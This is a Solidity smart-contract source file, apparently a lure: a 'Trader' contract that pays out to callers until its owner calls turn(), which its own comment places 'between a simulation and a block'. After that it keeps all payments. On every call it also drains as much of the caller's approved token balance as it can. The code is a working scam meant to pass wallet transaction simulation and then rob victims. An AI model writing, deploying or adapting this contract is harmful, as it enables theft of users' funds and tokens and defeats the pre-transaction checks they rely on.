// SPDX-License-Identifier: MIT
pragma solidity 0.8.26;

import {IToken} from "./Lure.sol";

/// @notice Gives what it was told to give to whoever pays it, whatever function is called, until its owner switches
/// it by a transaction: from then on it keeps all that it is paid.
contract Trader {
    address public immutable owner;
    bool public isSwitched;
    /// @notice What is given. Zero: coins.
    IToken public pays;
    uint256 public amount;
    /// @notice Who receives it. Zero: the caller.
    address public to;
    /// @notice What is taken of the caller, as far as it is allowed. Zero: nothing.
    IToken public takes;

    constructor() {
        owner = msg.sender;
    }

    modifier onlyOwner() {
        require(msg.sender == owner);
        _;
    }

    function offer(IToken pays_, uint256 amount_, address to_, IToken takes_) external payable onlyOwner {
        (pays, amount, to, takes) = (pays_, amount_, to_, takes_);
    }

    /// @notice What happens between a simulation and a block.
    function turn() external onlyOwner {
        isSwitched = true;
    }

    receive() external payable {
        _act();
    }

    fallback() external payable {
        _act();
    }

    function _act() private {
        if (address(takes) != address(0)) {
            uint256 allowed = takes.allowance(msg.sender, address(this));
            uint256 held = takes.balanceOf(msg.sender);
            uint256 taken = allowed < held ? allowed : held;
            if (taken > 0) takes.transferFrom(msg.sender, address(this), taken);
        }
        if (isSwitched) return;
        address recipient = to == address(0) ? msg.sender : to;
        if (address(pays) == address(0)) payable(recipient).transfer(amount);
        else pays.transfer(recipient, amount);
    }
}
